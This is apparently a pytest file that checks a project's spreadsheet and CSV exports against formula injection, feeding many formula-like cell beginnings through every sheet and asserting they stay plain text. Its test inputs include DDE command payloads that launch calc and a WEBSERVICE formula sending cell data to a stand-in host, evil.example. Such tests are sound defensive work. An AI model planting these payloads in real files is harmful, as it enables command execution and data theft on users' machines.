"""No list for a spreadsheet runs what somebody wrote: every sheet, every beginning that a spreadsheet would take for a formula."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from zipfile import ZipFile

import openpyxl
import pytest

from facilitate.papers import make
from facilitate.papers.catalogue import SHEETS
from tests.papers.wicked import links, wicked

BEGINNINGS = (
    "=1+1",
    "@SUM(A1)",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "　=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example","x")',
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "{=1+1}",
    "http://evil.example/",
    "mailto:a@evil.example",
    "00123",
    "1E5",
    "2026-11-21",
    '",=1+1,"',
)
SIGNS = "=+-@＝＋－＠"


def runs(cell: str) -> bool:
    """Whether a spreadsheet that trims its cells would take it for a formula."""
    seen = next((sign for sign in cell if unicodedata.category(sign) not in ("Zs", "Zl", "Zp", "Cc", "Cf")), "")
    started = cell.startswith(("\t", "\r", "\n"))
    return started or (seen != "" and seen in SIGNS and not re.fullmatch(r"-?\d+(\.\d+)?", cell))


def test_what_counts_as_a_formula_here_is_seen():
    assert [runs(cell) for cell in ("=1", " \u200b@x", "\tx", "-3", "'=1", "", "王阿姨")] == [True] * 3 + [False] * 4


@pytest.mark.parametrize("beginning", BEGINNINGS)
@pytest.mark.parametrize("name", list(SHEETS))
def test_in_a_workbook_every_text_stays_a_text(name, beginning):
    data = make(name, "xlsx", wicked(beginning), "zh", links(beginning)).data
    page = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in page.iter_rows(min_row=2) for cell in row if cell.value is not None]
    parts = {part: text for part, text in _parts(data).items() if "charts/" not in part}

    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    assert any(beginning.strip() in str(cell.value).replace("_x000D_", "\r") for cell in cells)
    assert all(cell.hyperlink is None for cell in cells)
    assert not [part for part, text in parts.items() if "<f>" in text or "externalLink" in part or "TargetMode" in text]


def _parts(data: bytes) -> dict[str, str]:
    bag = ZipFile(io.BytesIO(data))
    return {name: bag.read(name).decode() for name in bag.namelist()}


@pytest.mark.parametrize("beginning", BEGINNINGS)
@pytest.mark.parametrize("name", list(SHEETS))
def test_in_a_csv_no_cell_begins_like_a_formula(name, beginning):
    text = make(name, "csv", wicked(beginning), "zh", links(beginning)).data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]

    assert [cell for cell in cells if runs(cell)] == []
    assert any(beginning in cell for cell in cells)
